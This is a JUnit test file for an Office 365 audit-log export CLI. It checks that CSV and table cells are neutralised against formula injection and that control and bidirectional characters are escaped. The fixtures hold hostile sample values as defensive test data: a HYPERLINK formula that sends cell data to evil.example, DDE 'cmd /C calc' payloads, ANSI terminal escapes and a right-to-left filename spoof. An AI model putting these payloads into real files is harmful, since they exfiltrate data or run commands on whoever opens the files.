package io.github.auditlake.o365.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.github.auditlake.o365.api.AuditRecord;
import io.github.auditlake.o365.api.ContentType;
import io.github.auditlake.o365.testkit.FakeManagementApi;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * Values such as {@code UserId} can be typed by outsiders (a name entered at a failed sign-in): {@code export}'s
 * csv and table cells are neutralised by the OWASP CSV-injection rule, table cells show control and bidirectional
 * characters escaped, and {@code --raw-cells} writes the values as served.
 */
class ExportCellsTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String FIELDS = "Id,UserId,ObjectId,Operation,ClientIP,Workload,ResultStatus";

    private final CliHarness cli = new CliHarness(CliHarness.tenant(1));

    @AfterEach
    void stop() {
        cli.close();
    }

    /** One blob of the given records (UserId, ObjectId, Operation, ClientIP, Workload, ResultStatus each). */
    private void serve(String[]... records) {
        FakeManagementApi fake = new FakeManagementApi(CliHarness.TENANT, cli.clock);
        fake.startSubscription(ContentType.AZURE_ACTIVE_DIRECTORY, null);
        Instant created = CliHarness.NOW.minus(Duration.ofHours(2));
        List<AuditRecord> list = new java.util.ArrayList<>();
        for (int i = 0; i < records.length; i++) {
            String[] v = records[i];
            ObjectNode n = JSON.createObjectNode()
                    .put("Id", "r" + i)
                    .put("CreationTime", "2026-11-28T09:59:00")
                    .put("UserId", v[0])
                    .put("ObjectId", v[1])
                    .put("Operation", v[2])
                    .put("ClientIP", v[3])
                    .put("Workload", v[4])
                    .put("ResultStatus", v[5]);
            list.add(new AuditRecord(n.toString(), "r" + i, "2026-11-28T09:59:00", v[4], 15, v[2]));
        }
        fake.addRawBlob(ContentType.AZURE_ACTIVE_DIRECTORY, created, created, list);
        cli.apiFactory = s -> fake;
    }

    private CliHarness.Run export(String format, String... more) {
        String[] base = {"export", "--content-type", "azuread", "--start", "-3h", "--format", format, "--fields", FIELDS
        };
        String[] args = java.util.Arrays.copyOf(base, base.length + more.length);
        System.arraycopy(more, 0, args, base.length, more.length);
        return cli.run(args);
    }

    private static final String[] FORMULAS = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-5",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB=1",
        "\rCR=1"
    };

    @Test
    void csvCellsStartingLikeAFormulaGetALeadingQuoteAndRawCellsKeepsThem() {
        serve(FORMULAS, new String[] {
            "alice@contoso.example", "a=b", "UserLoggedIn", "10.0.0.1", "AzureActiveDirectory", "Success"
        });

        CliHarness.Run r = export("csv");

        assertEquals(0, r.code(), r.toString());
        List<String> lines = List.of(r.out().split("\r\n", -1));
        assertEquals(FIELDS, lines.get(0));
        assertEquals(
                "r0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'+1+cmd|' /C calc'!A0,'-5,"
                        + "'@SUM(1+1)*cmd|' /C calc'!A0,'\tTAB=1,\"'\rCR=1\"",
                lines.get(1),
                "each cell starting with =, +, -, @, tab or CR is prefixed with a quote (and quoted as RFC 4180 says)");
        assertEquals(
                "r1,alice@contoso.example,a=b,UserLoggedIn,10.0.0.1,AzureActiveDirectory,Success",
                lines.get(2),
                "other cells are unchanged");

        CliHarness.Run raw = export("csv", "--raw-cells");

        assertEquals(0, raw.code(), raw.toString());
        assertEquals(
                "r0,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",+1+cmd|' /C calc'!A0,-5,"
                        + "@SUM(1+1)*cmd|' /C calc'!A0,\tTAB=1,\"\rCR=1\"",
                List.of(raw.out().split("\r\n", -1)).get(1),
                "--raw-cells writes the values as served");
    }

    @Test
    void tableCellsAreNeutralisedTooAndShowControlAndBidiCharactersEscaped() {
        serve(FORMULAS, new String[] {
            "\u001b[2J\u001b[31mroot\u001b[0m", // clear the screen, red
            "invoice\u202Egpj.exe", // right-to-left override: shows as "invoiceexe.jpg"
            "a\u0007b\u009b1mc\u007fd", // BEL, CSI (C1), DEL
            "\u2066x\u2069\u200f",
            "line\u2028break",
            "ok"
        });

        CliHarness.Run r = export("table");

        assertEquals(0, r.code(), r.toString());
        List<String> rows = r.lines();
        assertEquals(3, rows.size(), r.toString());
        assertEquals(
                "r0\t'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")\t'+1+cmd|' /C calc'!A0\t'-5\t"
                        + "'@SUM(1+1)*cmd|' /C calc'!A0\t' TAB=1\t' CR=1",
                rows.get(1));
        assertEquals(
                "r1\t\\u001b[2J\\u001b[31mroot\\u001b[0m\tinvoice\\u202egpj.exe\ta\\u0007b\\u009b1mc\\u007fd\t"
                        + "\\u2066x\\u2069\\u200f\tline\\u2028break\tok",
                rows.get(2));
        r.out()
                .chars()
                .forEach(c -> assertFalse(
                        terminalControl(c) && c != '\t' && c != '\n',
                        "no raw control character: U+" + Integer.toHexString(c)));

        CliHarness.Run raw = export("table", "--raw-cells");

        assertEquals(0, raw.code(), raw.toString());
        assertTrue(raw.out().contains("\t\u001b[2J\u001b[31mroot\u001b[0m\tinvoice\u202Egpj.exe\t"), raw.toString());
    }

    /** C0, DEL, C1 and the bidirectional formatting characters. */
    private static boolean terminalControl(int c) {
        return c < 0x20
                || (c >= 0x7f && c <= 0x9f)
                || c == 0x061c
                || c == 0x200e
                || c == 0x200f
                || (c >= 0x202a && c <= 0x202e)
                || (c >= 0x2066 && c <= 0x2069);
    }

    @Test
    void listingTablesAreNeutralisedAndEscapedToo() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Output.table(
                out,
                List.of("contentType", "webhookAddress"),
                List.of(List.of("Audit.General", "=cmd|' /C calc'!A0\u001b]0;owned\u0007")));
        assertEquals(
                "contentType\twebhookAddress\nAudit.General\t'=cmd|' /C calc'!A0\\u001b]0;owned\\u0007\n",
                out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void theHelpOfExportNamesTheRawOptionAndTheRule() {
        CliHarness.Run help = cli.run("export", "--help");
        assertEquals(0, help.code(), help.toString());
        assertTrue(help.out().contains("--raw-cells"), help.out());
        assertTrue(help.out().contains("-5 becomes '-5"), help.out());
    }
}
